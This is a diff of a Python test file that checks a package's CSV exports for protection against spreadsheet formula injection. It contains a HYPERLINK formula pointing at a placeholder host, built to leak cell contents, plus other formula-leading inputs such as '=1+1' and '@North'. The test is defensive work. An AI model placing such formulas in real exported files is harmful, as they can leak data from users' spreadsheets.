@@ -4,14 +4,20 @@ from __future__ import annotations
 
 import csv
 from collections.abc import Callable
+from io import StringIO
 from pathlib import Path
 
 import pytest
 
 from referee.bundle import read_bundle
 from referee.export import export_csv, export_jsonl
+from referee.review import Review
+from referee.review.comparison import write_comparison
+from referee.review.row import RowReader
+from referee.review.tables import write_csv
 from referee.session import Session
 from referee.sheet import Cell, as_shown, write_sheet
+from tests.referee.conftest import GAMES
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
 
@@ -56,3 +62,17 @@ def test_a_note_and_a_reason_are_no_formulas_and_json_lines_are_exact(begin: Cal
     assert (rows[1]["notes"], rows[1]["entered_by"], rows[2]["reason"]) == (f"'{FORMULA}", "'@Ada", "'-x")
     store, wanted, _ = read_bundle(export_jsonl(session, tmp_path / "t.jsonl"))
     assert [remark.text for remark, _ in store.remarks(wanted)] == [FORMULA]
+
+
+def test_no_table_of_a_review_or_a_comparison_holds_a_formula(begin: Callable[..., Session], tmp_path: Path) -> None:
+    session = begin(title="=1+1", seat_names={"north": "@North"})
+    session.submit(next(iter(session.legal_moves)), entered_by="-Ada")
+    session.note(FORMULA)
+    session.rule((), "+x", question="=y")
+    row = RowReader(session.store, GAMES).rows(session.store.sessions())
+    files = [*write_csv(Review(session), tmp_path), write_comparison(tuple(row), tmp_path / "compared.csv")]
+    texts = [path.read_bytes().decode() for path in files]
+    cells = [cell for text in texts for line in csv.reader(StringIO(text, newline="")) for cell in line]
+    assert {f"'{FORMULA}", "'=1+1", "'-Ada"} <= set(cells)
+    assert "'@North; East; South; West" in cells
+    assert [cell for cell in cells if as_shown(cell) != cell] == []
